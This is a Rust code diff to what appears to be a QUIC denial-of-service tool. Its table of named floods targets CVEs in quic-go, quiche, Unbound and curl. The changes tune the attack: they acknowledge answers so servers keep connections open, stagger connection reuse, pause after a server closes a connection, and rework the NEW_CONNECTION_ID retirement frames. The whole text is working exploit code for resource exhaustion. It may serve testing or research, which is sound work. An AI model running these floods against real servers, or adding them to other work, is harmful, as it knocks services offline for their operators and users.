@@ -59,8 +59,9 @@ pub const ATTACKS: &[Attack] = &[
     Attack { name: "open-requests", rate: 2000, does: Does::Packets { connections: 16, acks: true, packet: open_request } },
     // Unbound CVE-2026-55991: answers that nobody reads or acknowledges.
     Attack { name: "unread-answers", rate: 500, does: Does::Packets { connections: 16, acks: false, packet: unread_answer } },
-    // quic-go CVE-2024-22189, quiche CVE-2024-1410: ids that retire each other, and no ACK for the answers.
-    Attack { name: "connection-ids", rate: 5000, does: Does::Packets { connections: 16, acks: false, packet: connection_ids } },
+    // quic-go CVE-2024-22189, quiche CVE-2024-1410: ids that retire each other. Without ACKs for the answers the server ends the
+    // connection after a few, so they are acknowledged.
+    Attack { name: "connection-ids", rate: 5000, does: Does::Packets { connections: 16, acks: true, packet: connection_ids } },
     // quic-go CVE-2023-49295, quiche CVE-2023-6193: challenges, and no ACK for the answers.
     Attack { name: "path-challenges", rate: 5000, does: Does::Packets { connections: 16, acks: false, packet: path_challenges } },
     // h2, curl CVE-2026-11352: STREAM frames without data.
@@ -71,6 +72,8 @@ pub const ATTACKS: &[Attack] = &[
 
 /// Packets after which a connection is left and another begun, so that new ones keep coming.
 const PACKETS_A_CONNECTION: u64 = 20_000;
+/// How long an attacker waits whose handshake failed or whose connection the server ended: what handshakes cost is shown by others.
+const PAUSE: Duration = Duration::from_secs(1);
 /// How often a sender looks whether it is behind.
 const TICK: Duration = Duration::from_millis(2);
 /// Sockets of strangers: each datagram comes from another.
@@ -130,7 +133,9 @@ impl Attack {
             Does::Packets { connections, acks, packet } => {
                 for number in 0..connections {
                     let pace = Pace::new(f64::from(rate) / f64::from(connections), Arc::clone(&sent));
-                    spawn(move || attack_on_connections(server, number, acks, packet, pace));
+                    // One after the other is replaced, so that what they hold together stays the same.
+                    let used = PACKETS_A_CONNECTION * u64::from(number) / u64::from(connections);
+                    spawn(move || attack_on_connections(server, (number, used), acks, packet, pace));
                 }
             }
         }
@@ -154,11 +159,11 @@ impl Pace {
         Self { rate, begin: Instant::now(), due: 0.0, sent }
     }
 
-    /// Waits until packets are due, and says how many. What was missed is made up for, up to a tenth of a second.
+    /// Waits until packets are due, and says how many. What was missed is made up for, up to a hundredth of a second.
     fn wait(&mut self) -> u32 {
         loop {
             let until_now = self.begin.elapsed().as_secs_f64() * self.rate;
-            self.due = self.due.max(until_now - self.rate / 10.0);
+            self.due = self.due.max(until_now - (self.rate / 100.0).max(1.0));
             let due = (until_now - self.due).floor();
             if due >= 1.0 {
                 self.due += due;
@@ -270,10 +275,11 @@ impl Stranger {
     }
 }
 
-/// Connects, sends packets, and begins anew when the server ends it or it was enough.
+/// Connects, sends packets, and begins anew when it was enough, or some time after the server ended it. Of the first connection's
+/// packets some are `used` up.
 fn attack_on_connections(
     server: SocketAddr,
-    number: u16,
+    (number, mut used): (u16, u64),
     acks: bool,
     packet: for<'a> fn(PacketBuilder<'a>, u64) -> PacketBuilder<'a>,
     mut pace: Pace,
@@ -281,19 +287,23 @@ fn attack_on_connections(
     for seed in u64::from(number).. {
         let mut attacker = Attacker::client(seed << 16, any_port(server), server).client_tls(tls());
         if attacker.try_handshake(Stage::Confirmed).is_err() {
-            sleep(Duration::from_millis(100));
+            sleep(PAUSE);
             continue;
         }
         if !acks {
             attacker.acks(AckPolicy::Never);
         }
         let mut sent = 0;
-        while sent < PACKETS_A_CONNECTION && attacker.closed().is_none() {
+        let enough = PACKETS_A_CONNECTION - std::mem::take(&mut used);
+        while sent < enough && attacker.closed().is_none() {
             for _ in 0..pace.wait() {
                 let _ = packet(attacker.packet(Kind::OneRtt), sent).send();
                 sent += 1;
             }
             while attacker.next(Duration::ZERO).is_some() {}
+        }
+        if attacker.closed().is_some() {
+            sleep(PAUSE);
         }
     }
 }
@@ -328,15 +338,13 @@ fn unread_answer(packet: PacketBuilder<'_>, number: u64) -> PacketBuilder<'_> {
     packet.frame(&Stream { id: stream(number), offset: 0, fin: true, data: format!("GET {LARGE}\r\n").as_bytes() })
 }
 
-fn connection_ids(mut packet: PacketBuilder<'_>, number: u64) -> PacketBuilder<'_> {
-    for next in 1 + number * 20..1 + (number + 1) * 20 {
-        let sequence = CidSequence::from(next as u32);
-        let id = ConnectionId::new(&next.to_be_bytes()).expect("eight bytes");
-        let mut token = [0; 16];
-        token[..8].copy_from_slice(&next.to_be_bytes());
-        packet = packet.frame(&NewConnectionId { sequence, retire_prior_to: sequence, id, reset_token: ResetToken::from(token) });
-    }
-    packet
+fn connection_ids(packet: PacketBuilder<'_>, number: u64) -> PacketBuilder<'_> {
+    let next = number + 1;
+    let sequence = CidSequence::from(next as u32);
+    let id = ConnectionId::new(&next.to_be_bytes()).expect("eight bytes");
+    let mut token = [0; 16];
+    token[..8].copy_from_slice(&next.to_be_bytes());
+    packet.frame(&NewConnectionId { sequence, retire_prior_to: sequence, id, reset_token: ResetToken::from(token) })
 }
 
 fn path_challenges(mut packet: PacketBuilder<'_>, number: u64) -> PacketBuilder<'_> {
